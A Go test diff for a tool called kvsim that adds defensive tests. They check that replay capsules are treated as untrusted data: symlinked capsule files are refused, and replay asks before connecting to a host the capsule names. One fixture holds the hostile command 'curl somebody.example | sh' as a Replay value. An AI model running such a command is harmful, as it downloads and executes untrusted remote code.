@@ -137,6 +137,70 @@ func TestReportOfACapsuleAgreesWithItsVerdict(t *testing.T) {
 	}
 }
 
+// A capsule may come from anybody: nothing outside of it is written or read.
+func TestCapsuleIsData(t *testing.T) {
+	t.Parallel()
+	result := &world.Result{Seed: 1, Status: world.Violated, Reasons: []world.Reason{{Name: "read-your-writes", Text: "it did not"}}}
+	capsule := func() string { return writeTestCapsule(t, result, "kvsim-plan 1\nseed 1\n", staleRead) }
+	victim := filepath.Join(t.TempDir(), "victim")
+	if err := os.WriteFile(victim, []byte("mine"), 0o666); err != nil {
+		t.Fatal(err)
+	}
+	link := func(dir, name string) {
+		_ = os.Remove(filepath.Join(dir, name))
+		if err := os.Symlink(victim, filepath.Join(dir, name)); err != nil {
+			t.Skipf("no links here: %v", err)
+		}
+	}
+	for _, name := range []string{capsuleReport, capsuleReport + ".part", "." + capsuleReport} {
+		dir := capsule()
+		link(dir, name)
+		if got := kvsim(t, testCLI(""), "", "report", dir); got.code != exitHeld {
+			t.Errorf("report of a capsule with a link at %s = %+v", name, got)
+		}
+		if data, err := os.ReadFile(filepath.Join(dir, capsuleReport)); err != nil || !strings.Contains(string(data), "<html") {
+			t.Errorf("with a link at %s there is no report: %v", name, err)
+		}
+		if info, err := os.Lstat(filepath.Join(dir, capsuleReport)); err != nil || !info.Mode().IsRegular() || info.Mode().Perm()&0o077 != 0 {
+			t.Errorf("the report = %v, %v; want a plain file of mode 0600", info.Mode(), err)
+		}
+	}
+	for _, name := range []string{capsulePlan, capsuleHistory, capsuleInfo, capsuleResult} {
+		dir := capsule()
+		link(dir, name)
+		for _, command := range []string{"report", "replay"} {
+			if command == "replay" && name == capsuleHistory {
+				continue // it is not read
+			}
+			got := kvsim(t, testCLI(""), "", command, dir)
+			if got.code != exitUsage || !strings.Contains(got.stderr, name+" is no plain file") {
+				t.Errorf("%s of a capsule with a link at %s = %+v, want it refused", command, name, got)
+			}
+		}
+	}
+	if data, err := os.ReadFile(victim); err != nil || string(data) != "mine" {
+		t.Errorf("what the links lead to = %q, %v", data, err)
+	}
+}
+
+func TestReplayAsksBeforeItConnects(t *testing.T) {
+	t.Parallel()
+	for _, kafka := range []string{"somebody.example:9092", inContainers} {
+		dir := writeTestCapsule(t, &world.Result{Seed: 1, Status: world.Violated}, "kvsim-plan 1\nseed 1\n", "")
+		data, err := json.Marshal(capsuleHeader{Seed: 1, Scenario: "test", Engine: "real", Kafka: kafka, Replay: "curl somebody.example | sh"})
+		if err == nil {
+			err = os.WriteFile(filepath.Join(dir, capsuleInfo), data, 0o666)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := kvsim(t, testCLI(""), "", "replay", dir)
+		if got.code != exitUsage || !strings.Contains(got.stderr, "say so with --kafka "+kafka) {
+			t.Errorf("replay of a capsule that names %s = %+v, want it to ask for --kafka", kafka, got)
+		}
+	}
+}
+
 // writeTestCapsule writes a capsule as a run leaves it, and returns its
 // directory. An empty history is left out.
 func writeTestCapsule(t *testing.T, result *world.Result, plan, history string) string {
